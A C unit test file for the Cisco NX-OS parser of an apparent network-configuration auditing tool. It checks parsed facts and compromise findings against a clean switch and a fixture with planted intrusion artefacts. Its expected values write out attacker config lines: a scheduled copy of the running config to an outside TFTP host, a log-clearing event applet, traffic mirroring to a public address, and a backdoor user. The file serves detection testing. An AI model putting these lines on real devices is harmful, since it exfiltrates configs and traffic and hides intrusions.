@@ -1,0 +1,658 @@
+/*
+ * test_nxos.c: the Cisco NX-OS parser (lib/parse/nxos*.c).
+ *
+ * Table-driven.  Two fixtures written for this project
+ * (tests/unit/data/nxos/): a clean NX-OS 9.3 leaf switch and the same kind
+ * of switch carrying planted AA25-239A artefacts.  Tables check facts at
+ * exact lines with their fields (and block fields at their own lines),
+ * fact counts per kind, that no secret of either fixture reaches a fact,
+ * and the built-in rules and indicators: every planted artefact is a
+ * compromise finding at its line, the clean switch has none.  Inline rows
+ * cover single statements, and a hostile-input table (NUL bytes, CRLF, a
+ * BOM, a lone banner, long lines, truncation) expects no crash and the
+ * facts still found.  test_corpus parses every file of the public corpus
+ * (when present) with no error, and records the fact counts of the NX-OS
+ * ones.
+ */
+#define _XOPEN_SOURCE 700
+#include <dirent.h>
+#include <setjmp.h>
+#include <stdarg.h>
+#include <stddef.h>
+#include <stdint.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <sys/stat.h>
+
+#include <cmocka.h>
+
+#include "tidewatch/config.h"
+#include "tidewatch/file.h"
+#include "tidewatch/ioc.h"
+#include "tidewatch/limits.h"
+#include "tidewatch/rules.h"
+
+#define CLEAN "data/nxos/clean.cfg"
+#define BAD "data/nxos/compromised.cfg"
+#define ANY_LINE UINT32_MAX
+
+typedef struct {
+    tw_arena *arena;
+    tw_factset fs;
+    tw_diags diags;
+    tw_err rc;
+    tw_file file;
+} parsed;
+
+static void parse_raw(parsed *p, const char *cfg, size_t len)
+{
+    p->arena = tw_arena_new(0);
+    assert_non_null(p->arena);
+    tw_factset_init(&p->fs, p->arena);
+    tw_diags_init(&p->diags);
+    p->rc = tw_parse_nxos("t.cfg", cfg, len, &p->fs, &p->diags);
+}
+
+static void parse_n(parsed *p, const char *cfg, size_t len)
+{
+    memset(&p->file, 0, sizeof(p->file));
+    parse_raw(p, cfg, len);
+}
+
+static void parse(parsed *p, const char *cfg)
+{
+    parse_n(p, cfg, strlen(cfg));
+}
+
+static void parse_file(parsed *p, const char *path)
+{
+    memset(&p->file, 0, sizeof(p->file));
+    assert_int_equal(tw_file_read(path, TW_LIMIT_FILE_SIZE, &p->file), TW_OK);
+    parse_raw(p, p->file.data, p->file.len);
+}
+
+static void done(parsed *p)
+{
+    tw_diags_release(&p->diags);
+    tw_factset_release(&p->fs);
+    tw_arena_free(p->arena);
+    tw_file_release(&p->file);
+}
+
+static size_t count(const parsed *p, tw_fact_kind kind)
+{
+    size_t n = 0;
+
+    for (size_t i = 0; i < p->fs.n; i++)
+        n += p->fs.v[i].kind == kind;
+    return n;
+}
+
+/* True when a fact of kind at line has a field name == value (text form),
+ * set at field_line (ANY_LINE: not checked; 0: the fact's line). */
+static bool has(const parsed *p, tw_fact_kind kind, uint32_t line, const char *name,
+                const char *value, uint32_t field_line)
+{
+    for (size_t i = 0; i < p->fs.n; i++) {
+        const tw_fact *f = &p->fs.v[i];
+        const tw_field *x = NULL;
+        if (f->kind != kind || f->line != line)
+            continue;
+        while ((x = tw_fact_next(f, name, x)) != NULL) {
+            if (tw_str_eq_c(x->str, value) && (field_line == ANY_LINE || x->line == field_line))
+                return true;
+        }
+    }
+    return false;
+}
+
+/* ---- fixtures: facts at exact lines ---------------------------------------- */
+
+typedef struct {
+    const char *file;
+    tw_fact_kind kind;
+    uint32_t line;
+    const char *field, *value;
+    uint32_t field_line;
+} fact_row;
+
+static const fact_row fact_rows[] = {
+    {CLEAN, TW_FACT_VERSION, 5, "version", "9.3(10)", 0},
+    {CLEAN, TW_FACT_HOSTNAME, 6, "name", "dc1-leaf1", 0},
+    {CLEAN, TW_FACT_SERVICE, 12, "name", "scp", 0},
+    {CLEAN, TW_FACT_LOCAL_USER, 17, "privilege", "15", 0},
+    {CLEAN, TW_FACT_LOCAL_USER, 17, "secret_type", "5", 0},
+    {CLEAN, TW_FACT_LOCAL_USER, 18, "privilege", "1", 0},
+    {CLEAN, TW_FACT_LOCAL_USER, 18, "role", "network-operator", 0},
+    {CLEAN, TW_FACT_SECRET, 20, "owner", "tacacs", 0},
+    {CLEAN, TW_FACT_AAA_SERVER, 21, "address", "10.20.0.10", 0},
+    {CLEAN, TW_FACT_AAA_SERVER, 21, "key_type", "7", 0},
+    {CLEAN, TW_FACT_SECRET, 21, "owner", "tacacs 10.20.0.10", 0},
+    {CLEAN, TW_FACT_SECRET, 21, "type", "7", 0},
+    {CLEAN, TW_FACT_AAA_SERVER, 25, "address", "10.20.0.11", 0},
+    {CLEAN, TW_FACT_AAA_SERVER, 25, "protocol", "tacacs", 0},
+    {CLEAN, TW_FACT_AAA_METHOD, 28, "method", "group TACACS", 0},
+    {CLEAN, TW_FACT_AAA_METHOD, 30, "service", "commands", 0},
+    {CLEAN, TW_FACT_ACL_ENTRY, 32, "src", "10.20.0.0/24", 0},
+    {CLEAN, TW_FACT_ACL_ENTRY, 32, "dst_port", "eq 22", 0},
+    {CLEAN, TW_FACT_ACL_ENTRY, 34, "action", "deny", 0},
+    {CLEAN, TW_FACT_ACL_ENTRY, 34, "list", "MGMT-ACCESS", 0},
+    {CLEAN, TW_FACT_SNMP_USER, 36, "priv", "aes-128", 0},
+    {CLEAN, TW_FACT_SNMP_HOST, 37, "version", "2c", 0},
+    {CLEAN, TW_FACT_SNMP_COMMUNITY, 39, "access", "ro", 0},
+    {CLEAN, TW_FACT_SNMP_COMMUNITY, 40, "acl", "MGMT-ACCESS", 0},
+    {CLEAN, TW_FACT_NTP_SERVER, 41, "vrf", "management", 0},
+    {CLEAN, TW_FACT_NTP_SERVER, 41, "key", "1", 0},
+    {CLEAN, TW_FACT_SECRET, 42, "owner", "ntp", 0},
+    {CLEAN, TW_FACT_ROUTE, 45, "next_hop", "192.0.2.1", 0},
+    {CLEAN, TW_FACT_ROUTE, 49, "vrf", "management", 0},
+    {CLEAN, TW_FACT_INTERFACE, 51, "address", "192.0.2.10", 53},
+    {CLEAN, TW_FACT_INTERFACE, 55, "description", "uplink to spine1", 56},
+    {CLEAN, TW_FACT_INTERFACE, 61, "vrf", "management", 62},
+    {CLEAN, TW_FACT_VTY, 67, "access_class", "MGMT-ACCESS", 70},
+    {CLEAN, TW_FACT_VTY, 67, "transport_input", "ssh", 0},
+    {CLEAN, TW_FACT_LOGGING_HOST, 72, "address", "10.20.0.50", 0},
+    {CLEAN, TW_FACT_LOGGING_HOST, 72, "vrf", "management", 0},
+    {CLEAN, TW_FACT_SERVICE, 0, "implied", "true", 0},
+    {BAD, TW_FACT_HOSTNAME, 5, "name", "dc1-leaf7", 0},
+    {BAD, TW_FACT_SERVICE, 7, "name", "bash-shell", 0},
+    {BAD, TW_FACT_SERVICE, 8, "name", "nxapi", 0},
+    {BAD, TW_FACT_SERVICE, 9, "name", "telnet", 0},
+    {BAD, TW_FACT_LOCAL_USER, 15, "name", "cisco_tac_admin", 0},
+    {BAD, TW_FACT_SECRET, 15, "type", "0", 0},
+    {BAD, TW_FACT_AAA_SERVER, 17, "address", "45.61.133.77", 0},
+    {BAD, TW_FACT_AAA_SERVER, 20, "address", "45.61.133.77", 0},
+    {BAD, TW_FACT_ACL_ENTRY, 25, "src", "1.222.84.29", 0},
+    {BAD, TW_FACT_ACL_ENTRY, 25, "seq", "15", 0},
+    {BAD, TW_FACT_SERVICE, 27, "port", "18443", 0},
+    {BAD, TW_FACT_SERVICE, 27, "name", "http", 0},
+    {BAD, TW_FACT_SNMP_COMMUNITY, 30, "access", "rw", 0},
+    {BAD, TW_FACT_SNMP_HOST, 31, "address", "5.181.132.95", 0},
+    {BAD, TW_FACT_ROUTE, 34, "next_hop", "14.143.247.202", 0},
+    {BAD, TW_FACT_TUNNEL, 38, "destination", "23.227.196.22", 41},
+    {BAD, TW_FACT_TUNNEL, 38, "source", "loopback0", 40},
+    {BAD, TW_FACT_TUNNEL, 38, "mode", "gre ip", 0},
+    {BAD, TW_FACT_VTY, 48, "transport_input", "telnet", 9},
+    {BAD, TW_FACT_MIRROR_SESSION, 51, "type", "span", 0},
+    {BAD, TW_FACT_MIRROR_SESSION, 51, "destination", "interface Ethernet1/48", 53},
+    {BAD, TW_FACT_MIRROR_SESSION, 55, "type", "erspan", 0},
+    {BAD, TW_FACT_MIRROR_SESSION, 55, "destination", "37.120.239.52", 58},
+    {BAD, TW_FACT_MIRROR_SESSION, 55, "source", "interface Ethernet1/2 both", 59},
+    {BAD, TW_FACT_SCRIPT, 62, "action", "clear logging logfile", 64},
+    {BAD, TW_FACT_SCRIPT, 62, "event", "cli match \"show logging*\"", 63},
+    {BAD, TW_FACT_SCRIPT, 66, "type", "scheduler", 0},
+    {BAD, TW_FACT_SCRIPT, 66, "action",
+     "copy running-config tftp://43.254.132.118/r.cfg vrf management", 67},
+    {BAD, TW_FACT_SCRIPT, 69, "type", "alias", 0},
+    {BAD, TW_FACT_LOGGING_HOST, 71, "address", "45.59.118.136", 0},
+    {BAD, TW_FACT_ADDRESS, 65, "value", "38.71.99.145", 0},
+    {BAD, TW_FACT_ADDRESS, 67, "value", "43.254.132.118", 0},
+};
+
+static void test_fixture_facts(void **state)
+{
+    (void)state;
+    for (size_t i = 0; i < sizeof(fact_rows) / sizeof(fact_rows[0]); i++) {
+        const fact_row *r = &fact_rows[i];
+        parsed p;
+        parse_file(&p, r->file);
+        print_message("row %zu: %s line %u %s=%s\n", i, tw_fact_kind_name(r->kind), r->line,
+                      r->field, r->value);
+        assert_int_equal(p.rc, TW_OK);
+        assert_true(has(&p, r->kind, r->line, r->field, r->value, r->field_line));
+        done(&p);
+    }
+}
+
+/* ---- fixtures: counts per kind --------------------------------------------- */
+
+typedef struct {
+    const char *file;
+    tw_fact_kind kind;
+    size_t n;
+} count_row;
+
+static const count_row count_rows[] = {
+    {CLEAN, TW_FACT_HOSTNAME, 1},     {CLEAN, TW_FACT_LOCAL_USER, 2},
+    {CLEAN, TW_FACT_AAA_SERVER, 4},   {CLEAN, TW_FACT_ACL_ENTRY, 3},
+    {CLEAN, TW_FACT_SNMP_HOST, 1},    {CLEAN, TW_FACT_SNMP_COMMUNITY, 2},
+    {CLEAN, TW_FACT_SECRET, 6},       {CLEAN, TW_FACT_INTERFACE, 3},
+    {CLEAN, TW_FACT_TUNNEL, 0},       {CLEAN, TW_FACT_MIRROR_SESSION, 0},
+    {CLEAN, TW_FACT_SCRIPT, 0},       {CLEAN, TW_FACT_SERVICE, 2},
+    {CLEAN, TW_FACT_ROUTE, 2},        {CLEAN, TW_FACT_VTY, 1},
+    {BAD, TW_FACT_AAA_SERVER, 4},     {BAD, TW_FACT_TUNNEL, 1},
+    {BAD, TW_FACT_MIRROR_SESSION, 2}, {BAD, TW_FACT_SCRIPT, 3},
+    {BAD, TW_FACT_LOCAL_USER, 2},     {BAD, TW_FACT_SERVICE, 7},
+    {BAD, TW_FACT_LOGGING_HOST, 1},   {BAD, TW_FACT_ACL_ENTRY, 3},
+};
+
+static void test_fixture_counts(void **state)
+{
+    (void)state;
+    for (size_t i = 0; i < sizeof(count_rows) / sizeof(count_rows[0]); i++) {
+        parsed p;
+        parse_file(&p, count_rows[i].file);
+        print_message("row %zu: %s\n", i, tw_fact_kind_name(count_rows[i].kind));
+        assert_int_equal(count(&p, count_rows[i].kind), count_rows[i].n);
+        assert_int_equal(p.diags.n, 0);
+        assert_int_equal(p.fs.dialect, TW_DIALECT_NXOS);
+        done(&p);
+    }
+}
+
+/* ---- secrets --------------------------------------------------------------- */
+
+static const char *const secrets[] = {
+    "Fewhg12345", "Sup3rS3cret", "pl4inkey", "Pr1vComm",  "Ro0Comm", "Ntp0Key",
+    "$5$KLMNOP",  "0x3a5b7c9d",  "cisco123", "AuthText1", "Hs4Key",
+};
+
+static bool leaks(const tw_factset *fs, const char *secret)
+{
+    tw_str s = tw_str_c(secret);
+
+    for (size_t i = 0; i < fs->n; i++) {
+        const tw_fact *f = &fs->v[i];
+        if (tw_str_find(f->evidence, s) >= 0)
+            return true;
+        for (uint32_t k = 0; k < f->nfields; k++) {
+            if (tw_str_find(f->fields[k].str, s) >= 0 || tw_str_find(f->fields[k].evidence, s) >= 0)
+                return true;
+        }
+    }
+    return false;
+}
+
+static const char secret_cfg[] =
+    "interface Vlan10\n"
+    "  hsrp 10\n"
+    "    authentication text AuthText1\n"
+    "    authentication md5 key-string Hs4Key\n"
+    "key chain KC\n"
+    "  key 1\n"
+    "    key-string 7 cisco123\n"
+    "snmp-server user u1 network-operator auth md5 cisco123 priv cisco123 localizedkey\n"
+    "radius-server host 10.0.0.9 key 7 \"cisco123\" authentication accounting\n";
+
+static void test_secrets(void **state)
+{
+    const char *const files[] = {CLEAN, BAD};
+    parsed p;
+
+    (void)state;
+    for (size_t f = 0; f < 2; f++) {
+        parse_file(&p, files[f]);
+        for (size_t i = 0; i < sizeof(secrets) / sizeof(secrets[0]); i++)
+            assert_false(leaks(&p.fs, secrets[i]));
+        done(&p);
+    }
+    parse(&p, secret_cfg);
+    for (size_t i = 0; i < sizeof(secrets) / sizeof(secrets[0]); i++)
+        assert_false(leaks(&p.fs, secrets[i]));
+    assert_true(has(&p, TW_FACT_SECRET, 3, "owner", "fhrp", 0));
+    assert_true(has(&p, TW_FACT_SECRET, 7, "owner", "key-chain KC", 0));
+    assert_true(has(&p, TW_FACT_SECRET, 7, "type", "7", 0));
+    assert_true(has(&p, TW_FACT_SNMP_USER, 8, "priv", "des", 0));
+    assert_true(has(&p, TW_FACT_AAA_SERVER, 9, "protocol", "radius", 0));
+    assert_true(has(&p, TW_FACT_SECRET, 9, "owner", "radius 10.0.0.9", 0));
+    assert_int_equal(count(&p, TW_FACT_SECRET), 4);
+    done(&p);
+}
+
+/* ---- inline statements ----------------------------------------------------- */
+
+typedef struct {
+    const char *cfg;
+    tw_fact_kind kind;
+    uint32_t line;
+    const char *field, *value;
+    uint32_t field_line;
+} inline_row;
+
+static const inline_row inline_rows[] = {
+    {"hostname h1\n", TW_FACT_HOSTNAME, 1, "name", "h1", 0},
+    {"no feature ssh\n", TW_FACT_SERVICE, 1, "enabled", "false", 0},
+    {"no feature ssh\nline vty\n", TW_FACT_VTY, 2, "name", "vty", 0},
+    {"feature guestshell\n", TW_FACT_SERVICE, 1, "name", "guestshell", 0},
+    {"guestshell enable\n", TW_FACT_SERVICE, 1, "name", "guestshell", 0},
+    {"feature netconf\n", TW_FACT_SERVICE, 1, "name", "netconf", 0},
+    {"no nxapi http\n", TW_FACT_SERVICE, 1, "enabled", "false", 0},
+    {"ssh server port 22122\n", TW_FACT_SERVICE, 1, "port", "22122", 0},
+    {"ssh port 10022\n", TW_FACT_SERVICE, 1, "name", "ssh", 0},
+    {"ip route 10.9.0.0 255.255.0.0 192.0.2.9\n", TW_FACT_ROUTE, 1, "prefix", "10.9.0.0/16", 0},
+    {"ip route 10.9.0.0/16 Ethernet1/1 192.0.2.9 tag 5\n", TW_FACT_ROUTE, 1, "interface",
+     "Ethernet1/1", 0},
+    {"ipv6 route 2001:db8::/32 2001:db8:1::1\n", TW_FACT_ROUTE, 1, "next_hop", "2001:db8:1::1", 0},
+    {"ipv6 access-list V6\n  10 permit tcp 2001:db8::/32 any eq 22\n", TW_FACT_ACL_ENTRY, 2,
+     "family", "ipv6", 0},
+    {"ip access-list A\n  10 remark allow mgmt\n", TW_FACT_ACL_ENTRY, 2, "remark", "allow mgmt", 0},
+    {"ip access-list A\n  permit ip addrgroup G any\n", TW_FACT_ACL_ENTRY, 2, "src", "addrgroup G",
+     0},
+    {"interface Ethernet1/2\n  ip address 10.1.1.1 255.255.255.0\n  shutdown\n", TW_FACT_INTERFACE,
+     1, "shutdown", "true", 0},
+    {"interface Ethernet1/2\n  ipv6 address 2001:db8::1/64\n", TW_FACT_INTERFACE, 1, "address",
+     "2001:db8::1", 2},
+    {"logging server 192.0.2.5 5 port 6514 secure\n", TW_FACT_LOGGING_HOST, 1, "transport", "tls",
+     0},
+    {"logging server 192.0.2.5 5 port 6514 secure\n", TW_FACT_LOGGING_HOST, 1, "port", "6514", 0},
+    {"no logging console\n", TW_FACT_LOGGING, 1, "enabled", "false", 0},
+    {"ntp peer 192.0.2.7 use-vrf mgmt\n", TW_FACT_NTP_SERVER, 1, "vrf", "mgmt", 0},
+    {"snmp-server community C1 rw\n", TW_FACT_SNMP_COMMUNITY, 1, "access", "rw", 0},
+    {"aaa group server radius R\n  server rad1\n", TW_FACT_AAA_SERVER, 2, "name", "rad1", 0},
+    {"tacacs-server host tac.example.net port 4949\n", TW_FACT_AAA_SERVER, 1, "port", "4949", 0},
+    {"username u1 role network-admin\n", TW_FACT_LOCAL_USER, 1, "privilege", "15", 0},
+    {"username u2 password 8 $8$abc role vdc-admin\n", TW_FACT_LOCAL_USER, 1, "secret_type", "8",
+     0},
+    {"monitor session 3 type erspan-destination\n  source ip 192.0.2.9\n", TW_FACT_MIRROR_SESSION,
+     1, "source", "ip 192.0.2.9", 2},
+    {"event manager applet A\n  event syslog pattern \"X\"\n  action 1 syslog msg hi\n",
+     TW_FACT_SCRIPT, 1, "action", "syslog msg hi", 3},
+    {"interface tunnel 5\n  tunnel mode ipip\n  tunnel destination peer.example.net\n",
+     TW_FACT_TUNNEL, 1, "destination", "peer.example.net", 3},
+    {"interface tunnel 5\n  tunnel mode ipip\n", TW_FACT_TUNNEL, 1, "mode", "ipip", 2},
+    {"switch# show running-config\n!Command: show running-config\nswitchname s9\n",
+     TW_FACT_HOSTNAME, 3, "name", "s9", 0},
+    {"banner motd #\nhostname fake\n#\nhostname real\n", TW_FACT_HOSTNAME, 4, "name", "real", 0},
+    {"banner motd @one line@\nhostname real\n", TW_FACT_HOSTNAME, 2, "name", "real", 0},
+};
+
+static void test_inline(void **state)
+{
+    (void)state;
+    for (size_t i = 0; i < sizeof(inline_rows) / sizeof(inline_rows[0]); i++) {
+        const inline_row *r = &inline_rows[i];
+        parsed p;
+        parse(&p, r->cfg);
+        print_message("row %zu: %s", i, r->cfg);
+        assert_int_equal(p.rc, TW_OK);
+        assert_true(has(&p, r->kind, r->line, r->field, r->value, r->field_line));
+        done(&p);
+    }
+}
+
+/* Statements that make no fact of a kind, or only the one counted. */
+static const struct {
+    const char *cfg;
+    tw_fact_kind kind;
+    size_t n;
+} none_rows[] = {
+    {"no feature ssh\n", TW_FACT_SERVICE, 1}, /* enabled false, and no implied SSH */
+    {"snmp-server host 10.0.0.1 use-vrf management\n", TW_FACT_SNMP_HOST, 0},
+    {"banner motd #\nhostname fake\n#\n", TW_FACT_HOSTNAME, 0},
+    {"username u3 sshkey ssh-rsa AAAAB3NzaC1yc2E\n", TW_FACT_LOCAL_USER, 0},
+    {"ssh key rsa 2048\n", TW_FACT_SECRET, 0},
+    {"scheduler job name j\n  end-job\n", TW_FACT_ADDRESS, 0},
+    {"vrf context V\n  ip route 10.0.0.0/8 192.0.2.1\nip route 10.0.0.0/8 192.0.2.1\n",
+     TW_FACT_ROUTE, 2},
+};
+
+static void test_none(void **state)
+{
+    (void)state;
+    for (size_t i = 0; i < sizeof(none_rows) / sizeof(none_rows[0]); i++) {
+        parsed p;
+        parse(&p, none_rows[i].cfg);
+        print_message("row %zu: %s", i, none_rows[i].cfg);
+        assert_int_equal(count(&p, none_rows[i].kind), none_rows[i].n);
+        done(&p);
+    }
+}
+
+/* ---- hostile input --------------------------------------------------------- */
+
+static void test_hostile(void **state)
+{
+    static const struct {
+        const char *cfg;
+        size_t len;
+        uint32_t host_line; /* line of "hostname h", 0: none */
+    } rows[] = {
+        {"hostname h\r\nfeature telnet\r\n", 29, 1},
+        {"\xEF\xBB\xBFhostname h\n", 14, 1},
+        {"feature\0 telnet\nhostname h", 26, 2},
+        {"banner motd #\nhostname x\n", 25, 0},
+        {"interface\n  ip address\n  tunnel destination\nhostname h\n", 55, 4},
+        {"ip access-list\n  10 permit tcp\nhostname h\n", 42, 3},
+        {"monitor session 99999999999999999999999\nhostname h\n", 51, 2},
+        {"", 0, 0},
+    };
+
+    (void)state;
+    for (size_t i = 0; i < sizeof(rows) / sizeof(rows[0]); i++) {
+        parsed p;
+        parse_n(&p, rows[i].cfg, rows[i].len);
+        print_message("row %zu\n", i);
+        assert_int_equal(p.rc, TW_OK);
+        assert_int_equal(count(&p, TW_FACT_HOSTNAME), rows[i].host_line != 0);
+        assert_int_equal(has(&p, TW_FACT_HOSTNAME, rows[i].host_line, "name", "h", 0),
+                         rows[i].host_line != 0);
+        done(&p);
+    }
+}
+
+static void test_long_line(void **state)
+{
+    size_t n = TW_LIMIT_LINE_LEN + 64;
+    char *cfg = malloc(n + 32);
+    parsed p;
+
+    (void)state;
+    assert_non_null(cfg);
+    memset(cfg, 'a', n);
+    memcpy(cfg + n, "\nhostname h\n", 13);
+    parse_n(&p, cfg, n + 12);
+    assert_int_equal(p.rc, TW_OK);
+    assert_int_equal(p.diags.n, 1);
+    assert_int_equal(p.diags.v[0].line, 1);
+    assert_true(has(&p, TW_FACT_HOSTNAME, 2, "name", "h", 0));
+    done(&p);
+    free(cfg);
+}
+
+/* ---- the built-in rules on the fixtures ------------------------------------ */
+
+typedef struct {
+    const char *rule;
+    uint32_t line;
+} finding_row;
+
+static const finding_row bad_findings[] = {
+    {"TW-AA-IMPLANT-USER", 15},   {"TW-AA-IOC-AAA", 17},           {"TW-AA-IOC-AAA", 20},
+    {"TW-AA-IOC-ACL", 25},        {"TW-AA-HTTP-PORT-PATTERN", 27}, {"TW-AA-SNMP-RW", 30},
+    {"TW-AA-IOC-SNMP", 31},       {"TW-AA-IOC-ROUTE", 34},         {"TW-AA-IOC-TUNNEL", 41},
+    {"TW-AA-TUNNEL-PUBLIC", 41},  {"TW-AA-IOC-MIRROR", 58},        {"TW-AA-MIRROR-PUBLIC", 58},
+    {"TW-AA-SCRIPT-LOGGING", 64}, {"TW-AA-SCRIPT-EXFIL", 65},      {"TW-AA-SCRIPT-EXFIL", 67},
+    {"TW-AA-IOC-LOGGING", 71},    {"TW-HARD-VTY-TELNET", 9},       {"TW-AA-IOC-CONFIG", 65},
+    {"TW-AA-IOC-CONFIG", 67},
+};
+
+typedef struct {
+    tw_ruleset *rs;
+    tw_iocset *iocs;
+    tw_arena *arena;
+    tw_findings out;
+} audit;
+
+static void audit_file(audit *a, const char *path)
+{
+    tw_diags d;
+    parsed p;
+    tw_rule_env env;
+
+    tw_diags_init(&d);
+    a->rs = tw_ruleset_new();
+    a->iocs = tw_iocset_new();
+    a->arena = tw_arena_new(0);
+    assert_int_equal(tw_ruleset_load_builtin(a->rs, &d), TW_OK);
+    assert_int_equal(tw_ruleset_finish(a->rs, &d), TW_OK);
+    assert_int_equal(tw_iocset_add_builtin(a->iocs), TW_OK);
+    assert_int_equal(tw_iocset_finish(a->iocs), TW_OK);
+    tw_findings_init(&a->out, a->arena);
+    env = (tw_rule_env){.iocs = a->iocs, .policy = NULL};
+    parse_file(&p, path);
+    assert_int_equal(tw_rules_apply(a->rs, &env, path, &p.fs, &a->out), TW_OK);
+    done(&p);
+    tw_diags_release(&d);
+}
+
+static void audit_done(audit *a)
+{
+    tw_findings_release(&a->out);
+    tw_arena_free(a->arena);
+    tw_iocset_free(a->iocs);
+    tw_ruleset_free(a->rs);
+}
+
+static bool found(const audit *a, const char *rule, uint32_t line)
+{
+    for (size_t i = 0; i < a->out.n; i++) {
+        if (strcmp(a->out.v[i].rule, rule) == 0 && a->out.v[i].line == line)
+            return true;
+    }
+    return false;
+}
+
+static size_t compromise(const audit *a)
+{
+    size_t n = 0;
+
+    for (size_t i = 0; i < a->out.n; i++)
+        n += a->out.v[i].category == TW_CAT_COMPROMISE;
+    return n;
+}
+
+static void test_rules_bad(void **state)
+{
+    audit a;
+
+    (void)state;
+    audit_file(&a, BAD);
+    for (size_t i = 0; i < sizeof(bad_findings) / sizeof(bad_findings[0]); i++) {
+        print_message("row %zu: %s at %u\n", i, bad_findings[i].rule, bad_findings[i].line);
+        assert_true(found(&a, bad_findings[i].rule, bad_findings[i].line));
+    }
+    audit_done(&a);
+}
+
+static void test_rules_clean(void **state)
+{
+    audit a;
+
+    (void)state;
+    audit_file(&a, CLEAN);
+    assert_int_equal(compromise(&a), 0);
+    assert_true(found(&a, "TW-HARD-KEY-TYPE", 21));
+    assert_false(found(&a, "TW-HARD-NO-AAA-ACCOUNTING", 0));
+    assert_false(found(&a, "TW-HARD-NO-LOGGING-HOST", 0));
+    assert_false(found(&a, "TW-HARD-VTY-NO-ACL", 67));
+    assert_false(found(&a, "TW-HARD-SSH-V1", 0));
+    audit_done(&a);
+}
+
+/* ---- the public corpus ----------------------------------------------------- */
+
+#define CONFIGS TW_CORPUS_DIR "/configs"
+
+/* The NX-OS files of the corpus, found by content ("feature", "switchname",
+ * "vrf context", "!RANCID-CONTENT-TYPE: cisco-nx", an NX-OS "version
+ * N.N(N)" line), and the facts each gives (regenerate when the parser
+ * changes on purpose: the failing row prints the new numbers). */
+static const struct {
+    const char *path;
+    size_t facts, interfaces, secrets, addresses;
+} corpus_rows[] = {
+    {"batfish-example/snmp_communities_clients/nxos", 5, 0, 0, 1},
+    {"batfish-unit/nxos/nxos_interface", 10, 3, 0, 5},
+    {"batfish-unit/nxos/nxos_misc", 2, 0, 0, 0},
+    {"batfish-unit/nxos/nxos_ntp", 4, 0, 0, 1},
+    {"batfish-unit/nxos/nxos_ssh", 2, 0, 0, 0},
+    {"batfish-unit/nxos/nxos_system", 2, 0, 0, 0},
+    {"ciscoconfparse2/sample_01.nxos", 266, 82, 51, 105},
+};
+
+static bool looks_nxos(const char *data, size_t len)
+{
+    tw_str rest = tw_str_make(data, len), line;
+
+    while (tw_str_line(&rest, &line)) {
+        if (tw_str_starts_with(line, TW_STR("feature ")) ||
+            tw_str_starts_with(line, TW_STR("switchname ")) ||
+            tw_str_starts_with(line, TW_STR("vrf context ")) ||
+            tw_str_starts_with(line, TW_STR("!RANCID-CONTENT-TYPE: cisco-nx")))
+            return true;
+    }
+    return false;
+}
+
+static int by_name(const struct dirent **a, const struct dirent **b)
+{
+    return strcmp((*a)->d_name, (*b)->d_name);
+}
+
+/* Counts the files under dir that look like NX-OS, parsing each. */
+static void walk(const char *dir, size_t *nx, size_t *errors)
+{
+    struct dirent **names = NULL;
+    int n = scandir(dir, &names, NULL, by_name);
+
+    for (int i = 0; i < n; i++) {
+        char path[4096];
+        struct stat st;
+        snprintf(path, sizeof(path), "%s/%s", dir, names[i]->d_name);
+        if (names[i]->d_name[0] != '.' && stat(path, &st) == 0 && S_ISDIR(st.st_mode)) {
+            walk(path, nx, errors);
+        } else if (names[i]->d_name[0] != '.' && S_ISREG(st.st_mode)) {
+            parsed p;
+            parse_file(&p, path);
+            *nx += looks_nxos(p.file.data, p.file.len);
+            *errors += p.rc != TW_OK || p.diags.errors != 0;
+            done(&p);
+        }
+        free(names[i]);
+    }
+    free(names);
+}
+
+static void test_corpus(void **state)
+{
+    struct stat st;
+    size_t nx = 0, errors = 0;
+
+    (void)state;
+    if (stat(CONFIGS, &st) != 0) {
+        skip();
+    }
+    walk(CONFIGS, &nx, &errors);
+    assert_int_equal(errors, 0);
+    assert_int_equal(nx, 7);
+    for (size_t i = 0; i < sizeof(corpus_rows) / sizeof(corpus_rows[0]); i++) {
+        char path[4096];
+        parsed p;
+        snprintf(path, sizeof(path), "%s/%s", CONFIGS, corpus_rows[i].path);
+        parse_file(&p, path);
+        print_message("%s: facts %zu interfaces %zu secrets %zu addresses %zu\n",
+                      corpus_rows[i].path, p.fs.n, count(&p, TW_FACT_INTERFACE),
+                      count(&p, TW_FACT_SECRET), count(&p, TW_FACT_ADDRESS));
+        assert_true(looks_nxos(p.file.data, p.file.len));
+        assert_int_equal(p.diags.n, 0);
+        assert_int_equal(p.fs.n, corpus_rows[i].facts);
+        assert_int_equal(count(&p, TW_FACT_INTERFACE), corpus_rows[i].interfaces);
+        assert_int_equal(count(&p, TW_FACT_SECRET), corpus_rows[i].secrets);
+        assert_int_equal(count(&p, TW_FACT_ADDRESS), corpus_rows[i].addresses);
+        done(&p);
+    }
+}
+
+int main(void)
+{
+    const struct CMUnitTest tests[] = {
+        cmocka_unit_test(test_fixture_facts), cmocka_unit_test(test_fixture_counts),
+        cmocka_unit_test(test_secrets),       cmocka_unit_test(test_inline),
+        cmocka_unit_test(test_none),          cmocka_unit_test(test_hostile),
+        cmocka_unit_test(test_long_line),     cmocka_unit_test(test_rules_bad),
+        cmocka_unit_test(test_rules_clean),   cmocka_unit_test(test_corpus),
+    };
+
+    return cmocka_run_group_tests(tests, NULL, NULL);
+}
